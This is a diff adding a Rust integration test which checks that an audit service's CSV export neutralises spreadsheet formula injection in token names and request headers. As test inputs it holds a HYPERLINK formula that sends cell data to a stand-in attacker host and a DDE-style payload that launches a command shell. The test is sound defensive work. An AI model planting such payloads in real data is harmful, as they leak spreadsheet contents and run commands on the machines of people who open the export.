@@ -775,3 +775,54 @@ async fn audit_events_carry_the_actor_ip_user_agent_and_request_id() {
     );
     f.finish().await;
 }
+
+/// Formula injection: a token's `name` claim, a `User-Agent` and an `X-Request-Id` are the
+/// caller's to choose and reach the audit export; in the CSV they are text, never formulas.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn the_audit_export_neutralises_formulas_from_the_token_and_headers() {
+    let f = Fixture::start(&[]).await;
+    let name = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Open")"#;
+    let ua = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let request_id = "+SUM(1,2)";
+    let dev = domain::Actor {
+        name: name.into(),
+        ..actor("user:formula", Role::Developer)
+    };
+    let r = f
+        .http
+        .post(f.url("/v1/keys"))
+        .bearer_auth(f.token(&dev))
+        .header("x-request-id", request_id)
+        .header("user-agent", ua)
+        .json(&json!({"name": "formula"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::CREATED);
+    let id = json_of(r).await["key"]["id"].as_str().unwrap().to_string();
+    let admin = f.token(&actor("user:alice", Role::Provider));
+    let r = f
+        .get(
+            &format!("/v1/audit/export?entity_type=federation_key&entity_id={id}"),
+            &admin,
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::OK);
+    let text = r.text().await.unwrap();
+    let mut csv = csv::Reader::from_reader(text.as_bytes());
+    let headers = csv.headers().unwrap().clone();
+    let column = |n: &str| headers.iter().position(|h| h == n).unwrap();
+    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1, "{text}");
+    let row = &rows[0];
+    assert_eq!(&row[column("actor_name")], format!("'{name}"), "{text}");
+    assert_eq!(&row[column("ua")], format!("'{ua}"));
+    assert_eq!(&row[column("request_id")], format!("'{request_id}"));
+    for cell in row {
+        assert!(
+            !cell.starts_with(domain::spreadsheet::FORMULA_TRIGGERS),
+            "a cell a spreadsheet would evaluate: {cell:?}"
+        );
+    }
+    f.finish().await;
+}
